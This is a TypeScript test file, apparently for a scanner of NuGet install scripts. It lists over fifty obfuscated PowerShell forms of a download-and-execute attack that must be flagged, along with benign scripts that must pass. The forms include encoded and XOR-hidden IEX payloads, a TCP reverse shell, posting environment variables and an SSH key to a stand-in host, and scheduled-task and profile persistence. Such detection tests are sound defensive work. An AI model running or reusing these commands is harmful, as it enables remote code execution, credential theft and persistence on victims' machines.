import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { verdictOf } from "../../test/support/verdict-of.ts";

/** One and the same inert attack in the ways in which a script that NuGet runs can say it: each has to be withheld. */
const URL = "https://example.invalid/a";
const IEX = `IEX (New-Object Net.WebClient).DownloadString('${URL}')`;

const base64 = (text: string) => Buffer.from(text).toString("base64");
const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const script = (text: string, path = "tools/init.ps1") => ({ [path]: `${text}\n` });

const FORMS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "as it is": script(IEX),
  "with backticks": script('I`E`X (N`ew-Obj`ect N`et.WebC`lient)."Down`loadString"(\'' + URL + "')"),
  "by the format operator": script(
    `& ("{1}{0}" -f 'X','IE') (& ("{0}-{1}" -f 'New','Object') ("{1}.{0}" -f 'WebClient','Net')).("{1}{0}" -f 'String','Download').Invoke('${URL}')`,
  ),
  "in joined pieces": script(`$c = ('i','w','r') -join ''; $e = -join ('I','E','X'); & $e (& $c '${URL}').Content`),
  "letter by letter": script(
    `$e = [char]73 + [char]69 + [char]88; & $e ((New-Object Net.WebClient).(([char[]](68,111,119,110,108,111,97,100,83,116,114,105,110,103)) -join '')('${URL}'))`,
  ),
  "by aliases found by a pattern": script(`& (Get-Alias i*x) (& (gal iw*) '${URL}')`),
  "by commands found by a pattern": script(`& (Get-Command *ke-Ex*n) (& (gcm *ke-WebR*) '${URL}').Content`),
  "by aliases of its own": script(`Set-Alias zz Invoke-Expression; sal yy Invoke-WebRequest; zz (yy '${URL}').Content`),
  "by an alias for a name put together": script(`Set-Alias zz ('Invoke-' + 'Expression'); zz (irm '${URL}')`),
  "as a script block": script(`$s = irm '${URL}'; & ([scriptblock]::Create($s))`),
  "as a script block that is sourced": script(
    `. ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('${URL}')))`,
  ),
  "by the execution context": script(`$ExecutionContext.InvokeCommand.InvokeScript((irm '${URL}'))`),
  "as a new script block of the execution context": script(
    `$ExecutionContext.InvokeCommand.NewScriptBlock((irm ${URL})).Invoke()`,
  ),
  "by reflection": script(
    `$t = [Type]::GetType('System.Net.WebClient, System'); $w = [Activator]::CreateInstance($t); $m = $t.GetMethod('DownloadString', [type[]]@([string])); iex $m.Invoke($w, @('${URL}'))`,
  ),
  "by another client": script(`$h = [System.Net.Http.HttpClient]::new(); iex $h.GetStringAsync('${URL}').Result`),
  "in C#": script(
    `Add-Type -TypeDefinition 'using System.Net; using System.Diagnostics; public class X { public static void Go() { new WebClient().DownloadFile("${URL}", "a.exe"); Process.Start("a.exe"); } }'; [X]::Go()`,
  ),
  "as an encoded command": script(`powershell -nop -w hidden -EncodedCommand ${wide(IEX)}`),
  "as an encoded command by a short option": script(`powershell -e ${wide(IEX)}`),
  "in base 64": script(`iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64(IEX)}')))`),
  "in base 64 in a variable": script(
    `$d = '${base64(IEX)}'\n$t = [System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String($d))\nInvoke-Expression $t`,
  ),
  compressed: script(
    `$ms = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(IEX).toString("base64")}')); iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream($ms, [IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`,
  ),
  backwards: script(`$s = '${IEX.split("").reverse().join("")}'; iex ($s[-1..-($s.Length)] -join '')`),
  "with letters taken out": script(
    `iex ('IZZEX (New-ObZZject Net.WebClZZient).DownloadStrZZing(''${URL}'')'.Replace('ZZ',''))`,
  ),
  "with letters taken out by an operator": script(`iex ('IZZEX (irZZm ''${URL}'')' -replace 'ZZ','')`),
  "combined with a key": script(
    `$b = @(${[...Buffer.from(IEX)].map((x) => x ^ 7).join(",")}); iex (-join ($b | % { [char]($_ -bxor 7) }))`,
  ),
  "as bytes": script(`$b = @(${[...Buffer.from(IEX)].join(",")}); iex ([Text.Encoding]::ASCII.GetString([byte[]]$b))`),
  "as numbers": script(`iex (-join ('${[...Buffer.from(IEX)].join("-")}'.Split('-') | % { [char][int]$_ }))`),
  "by letters of a path": script(`& ($env:ComSpec[4,15,25] -join '') (irm '${URL}')`),
  "by letters of another path": script(`.($PSHome[4]+$PSHome[34]+'x') (irm '${URL}')`),
  "by letters of the name of a variable": script(`.((gv *mdr*).Name[3,11,2] -join '') (irm '${URL}')`),
  "by a method put together": script(
    `$a='Down';$b='loadStr';$c='ing'; iex (New-Object Net.WebClient).($a+$b+$c)('${URL}')`,
  ),
  "through a pipe": script(`irm '${URL}' | iex`),
  "through a pipe by an alias": script(`curl ${URL} | Invoke-Expression`),
  "as a program that is dropped": script(`$p = "$env:TEMP\\a.exe"; iwr '${URL}' -OutFile $p; Start-Process $p`),
  "by the transfer service": script(`Start-BitsTransfer '${URL}' $env:TEMP\\a.exe; & $env:TEMP\\a.exe`),
  "by a COM object": script(
    `$x = New-Object -ComObject Msxml2.XMLHTTP; $x.open('GET','${URL}',$false); $x.send(); iex $x.responseText`,
  ),
  "by a browser": script(
    `$i = New-Object -ComObject InternetExplorer.Application; $i.Navigate('${URL}'); iex $i.Document.body.innerText`,
  ),
  "by WMI": script(`([wmiclass]'Win32_Process').Create('mshta ${URL}')`),
  "by CIM": script(
    `Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='mshta ${URL}'}`,
  ),
  "in a module": { ...script(`Import-Module (Join-Path $toolsPath x.psm1)`), "tools/x.psm1": IEX + "\n" },
  "in a script that is sourced": { ...script(`. "$PSScriptRoot\\lib.ps1"`), "tools/lib.ps1": IEX + "\n" },
  "in the script for one framework": script(IEX, "tools/net45/install.ps1"),
  "by name servers": script(`iex ((Resolve-DnsName a.example.invalid -Type TXT).Strings -join '')`),
  "as a shell for a server": script(
    `$c = New-Object Net.Sockets.TCPClient('example.invalid',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($r),0,$r.Length)}`,
  ),
  "by sending the environment": script(
    `Invoke-RestMethod -Method Post -Uri '${URL}' -Body (Get-ChildItem env: | Out-String)`,
  ),
  "by sending a key": script(`irm '${URL}' -Method POST -Body (Get-Content "$HOME\\.ssh\\id_rsa" -Raw)`),
  "in a here string": script(`iex @"\n${IEX}\n"@`),
  "by cmd": script(`cmd /c "curl ${URL} -o %TEMP%\\a.exe && %TEMP%\\a.exe"`),
  "as a scheduled task": script(
    `Register-ScheduledTask -TaskName a -Action (New-ScheduledTaskAction -Execute powershell -Argument '-w hidden -c "irm ${URL} | iex"') -Trigger (New-ScheduledTaskTrigger -AtLogOn)`,
  ),
  "in the background": script(`Start-Job { iex (irm '${URL}') }`),
  "in the user's profile": script(`Add-Content $PROFILE 'irm ${URL} | iex'`),
  "as an assembly from a server": script(
    `[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('${URL}')).EntryPoint.Invoke($null, $null)`,
  ),
  "as an assembly of its own": {
    ...script(
      `[Reflection.Assembly]::Load([IO.File]::ReadAllBytes("$toolsPath\\data.bin")).EntryPoint.Invoke($null,$null)`,
    ),
    "tools/data.bin": "MZ",
  },
};

const HONEST: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "removes a reference and opens a page": script(
    "param($installPath, $toolsPath, $package, $project)\n$project.Object.References | Where-Object { $_.Name -eq 'X' } | ForEach-Object { $_.Remove() }\n$DTE.ItemOperations.Navigate('https://example.invalid/docs')",
    "tools/install.ps1",
  ),
  "imports a module with an alias of its own": {
    ...script("param($installPath, $toolsPath, $package)\nImport-Module (Join-Path $toolsPath demo.psm1)"),
    "tools/demo.psm1":
      "function Add-Thing($n) { $p = Get-Project $n; $p.Save() }\nSet-Alias athing Add-Thing\nExport-ModuleMember -Function Add-Thing -Alias athing\n",
  },
  "formats and joins what it says": script(
    "Write-Host (\"{0} {1}\" -f 'Demo', 'installed')\n$x = ('a','b') -join ','\n$c = [char]10",
  ),
  "adds types": script(
    "Add-Type -Path (Join-Path $toolsPath Demo.dll)\nAdd-Type -TypeDefinition 'public static class Y { public static int One() { return 1; } }'",
  ),
  "asks whether there is a command": script(
    "if (Get-Command dotnet* -ErrorAction SilentlyContinue) { & dotnet --version }\n. (Join-Path $toolsPath common.ps1)",
  ),
  "calls a tool by a variable": script(
    "$exe = Join-Path $toolsPath 'demo.exe'\n& $exe --init\n$git = 'git'\n& $git status",
  ),
  "breaks lines with backticks": script(
    "Get-ChildItem $toolsPath `\n  -Filter *.dll `\n  | ForEach-Object { $_.FullName }",
  ),
};

for (const [how, files] of Object.entries(FORMS))
  test(`a script that attacks ${how} is withheld`, () => assert.notEqual(verdictOf("nuget", files), "clean"));

for (const [what, files] of Object.entries(HONEST))
  test(`a script that ${what} is clean`, () => assert.equal(verdictOf("nuget", files), "clean"));
